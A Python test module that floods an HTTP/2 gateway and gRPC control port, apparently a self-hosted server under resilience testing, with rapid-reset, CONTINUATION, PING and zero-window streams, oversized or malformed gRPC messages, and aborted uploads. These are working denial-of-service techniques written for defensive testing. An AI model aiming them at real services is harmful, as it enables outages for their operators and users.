"""Hostile callers over HTTP/2: frames that cost nothing to send, and invalid gRPC calls."""

from __future__ import annotations

import itertools
import os
import re
import socket
import time
from typing import Callable, Iterator

from . import http2
from .floods import ATTEMPT_SECONDS, Flood, Target, linger

FRAMES = 50_000
BATCH = 500
NEVER_READ_SECONDS = 5.0
# A server that has refused a message may discard the rest of it as slowly as it likes.
SENDING_SECONDS = 5.0
CALLS = "/modal.client.ModalClient/"
HEALTH = "/grpc.health.v1.Health/Check"
GRPC = {"content_type": "application/grpc", "te": "trailers"}
_numbers = itertools.count()


def flood(frames: Callable[[Target, int], bytes]) -> Callable[[Target], str]:
    """Sends frame after frame to the gateway until it ends the connection."""

    def attempt(target: Target) -> str:
        with http2.connect(target.gateway, ATTEMPT_SECONDS) as connection:
            try:
                for start in range(0, FRAMES, BATCH):
                    connection.sendall(b"".join(frames(target, number) for number in range(start, start + BATCH)))
            except (BrokenPipeError, ConnectionResetError):
                return "cut"
            return ended(connection, 3.0)

    return attempt


def rapid_reset(target: Target, number: int) -> bytes:
    stream = 2 * number + 1
    opened = http2.request(stream, target.hosts["warm"])
    return opened + http2.frame(http2.RST_STREAM, 0, stream, http2.CANCEL.to_bytes(4, "big"))


def stream_and(kind: int, payload: bytes = b"", flags: int = 0) -> Callable[[Target, int], bytes]:
    """Sends frames of one kind on a stream whose request does not end."""

    def frames(target: Target, number: int) -> bytes:
        opened = http2.request(1, target.hosts["warm"], method="POST", ends=False) if number == 0 else b""
        return opened + http2.frame(kind, flags, 1, payload)

    return frames


def connection_frames(kind: int, payload: bytes = b"") -> Callable[[Target, int], bytes]:
    return lambda target, number: http2.frame(kind, 0, 0, payload)


def continuations(target: Target, number: int) -> bytes:
    if number == 0:
        section = http2.fields(_method="GET", _scheme="http", _authority=target.hosts["warm"], _path="/")
        return http2.frame(http2.HEADERS, 0, 1, section)
    return http2.frame(http2.CONTINUATION, 0, 1, http2.fields(x="y"))


def unread_streams(port: str, path: str) -> Callable[[Target], str]:
    """Requests a hundred responses at the same time, without a window for any of them."""

    def attempt(target: Target) -> str:
        host = target.hosts["warm"] if port == "gateway" else "x"
        with http2.connect(getattr(target, port), ATTEMPT_SECONDS, window=0) as connection:
            connection.sendall(b"".join(http2.request(2 * i + 1, host, path) for i in range(100)))
            return linger(connection, NEVER_READ_SECONDS)

    return attempt


def call(target: Target, path: str, pieces: Iterator[bytes], **headers: str) -> str:
    """Makes one gRPC call on the control port; returns its status, or its other outcome."""
    with http2.connect(target.control, ATTEMPT_SECONDS) as connection:
        opened = http2.request(1, "x", path, "POST", ends=False, **GRPC, **headers)
        end = time.monotonic() + SENDING_SECONDS
        try:
            connection.sendall(opened)
            connection.settimeout(SENDING_SECONDS)
            for piece in pieces:
                if time.monotonic() > end:
                    return ended(connection, 0.5)
                connection.sendall(piece)
            connection.sendall(http2.frame(http2.DATA, http2.END_STREAM, 1))
        except (BrokenPipeError, ConnectionResetError):
            return "cut"
        except TimeoutError:
            return ended(connection, 0.5)
        return answer(connection)


def answer(connection: socket.socket) -> str:
    """Returns the outcome of a call. Statuses are literals, or the static table's index of ``:status: 200``; their
    exact values matter less than that there is one.
    """
    connection.settimeout(ATTEMPT_SECONDS)
    said = b""
    try:
        while more := connection.recv(65_536):
            said += more
            if found := re.search(rb"grpc-status.(\d+)", said, re.DOTALL):
                return "grpc " + found[1].decode()
            if b"\0\0\0\1" in said:
                return "answered"
    except ConnectionResetError:
        return "reset"
    return "closed"


def authorized(target: Target) -> dict[str, str]:
    return {
        "x_modal_token_id": target.token_id,
        "x_modal_token_secret": target.token_secret,
        "x_modal_client_version": "1.6.4",
        "x_modal_client_type": "1",
    }


def data(payload: bytes) -> Iterator[bytes]:
    for start in range(0, len(payload), 16_384):
        yield http2.frame(http2.DATA, 0, 1, payload[start : start + 16_384])


def wrong_grpc_token(target: Target) -> str:
    wrong = {"x_modal_token_id": f"ak-{next(_numbers)}-{os.getpid()}", "x_modal_token_secret": "as-wrong"}
    return call(target, CALLS + "AppList", data(http2.message(b"")), **wrong)


def malformed_message(target: Target) -> str:
    return call(target, CALLS + "AppCreate", data(http2.message(os.urandom(512))), **authorized(target))


def oversized_message(target: Target) -> str:
    """Announces a message of 4 GiB."""
    return call(target, CALLS + "AppCreate", data(http2.message(b"x" * 65_536, 0xFFFF_FFF0)), **authorized(target))


def strangers_message(path: str, **headers: str) -> Callable[[Target], str]:
    """Sends 90 MiB, which gRPC would accept from an authenticated caller."""
    block = b"x" * 1_048_576

    def pieces() -> Iterator[bytes]:
        yield from data(http2.message(block, 90 << 20))
        for _ in range(89):
            yield from data(block)

    return lambda target: call(target, path, pieces(), **headers)


def broken_upload(target: Target) -> str:
    """Announces an upload, begins it and aborts it."""
    with http2.connect(target.control, ATTEMPT_SECONDS) as connection:
        hash_ = b"\x12\x2c" + b"A" * 43 + b"="
        announcement = hash_ + b"\x18\x80\x80\x80\x02"
        connection.sendall(
            http2.request(1, f"127.0.0.1:{target.control}", CALLS + "BlobCreate", "POST", False, **GRPC, **authorized(target))
            + http2.frame(http2.DATA, http2.END_STREAM, 1, http2.message(announcement))
        )
        said = b""
        while not (found := re.search(rb"/blobs/bl-\w+", said)):
            more = connection.recv(65_536)
            said += more
            if not more or b"grpc-message" in said:
                return "refused"
    with socket.create_connection(("127.0.0.1", target.control), ATTEMPT_SECONDS) as upload:
        upload.sendall(b"PUT " + found[0] + b" HTTP/1.1\r\nHost: x\r\nContent-Length: 4194304\r\n\r\n" + b"x" * 1_000_000)
    return "broken off"


def ended(connection: socket.socket, seconds: float) -> str:
    connection.settimeout(seconds)
    end = time.monotonic() + seconds
    try:
        while time.monotonic() < end:
            if not connection.recv(65_536):
                return "cut"
    except TimeoutError:
        return "silence"
    except OSError:
        return "cut"
    return "answers"


FRAME_FLOODS = [
    Flood("HTTP/2 rapid reset", flood(rapid_reset), 2),
    Flood("HTTP/2 PING", flood(connection_frames(http2.PING, b"8 octets")), 2),
    Flood("HTTP/2 SETTINGS", flood(connection_frames(http2.SETTINGS)), 2),
    Flood("HTTP/2 PRIORITY", flood(stream_and(http2.PRIORITY, b"\0\0\0\0\1")), 2),
    Flood("HTTP/2 WINDOW_UPDATE", flood(stream_and(http2.WINDOW_UPDATE, b"\0\0\0\1")), 2),
    Flood("HTTP/2 CONTINUATION", flood(continuations), 2),
    Flood("HTTP/2 empty DATA", flood(stream_and(http2.DATA)), 2),
    Flood("HTTP/2 streams without a window, gateway", unread_streams("gateway", "/large"), 4),
]
CALL_FLOODS = [
    Flood("gRPC, wrong tokens", wrong_grpc_token, 8),
    Flood("gRPC, malformed messages", malformed_message, 4),
    Flood("gRPC, messages of 4 GiB", oversized_message, 2),
    Flood("gRPC, a stranger's 90 MiB", strangers_message(CALLS + "AppList"), 4),
    Flood("gRPC health, a stranger's 90 MiB", strangers_message(HEALTH), 4),
    Flood("form as gRPC, a stranger's 90 MiB", strangers_message("/v1/oauth/token"), 4),
    Flood("uploads broken off", broken_upload, 2),
    Flood("HTTP/2 GET /q/openapi without a window", unread_streams("control", "/q/openapi"), 16),
    Flood("HTTP/2 GET /q/metrics without a window", unread_streams("control", "/q/metrics"), 16),
]
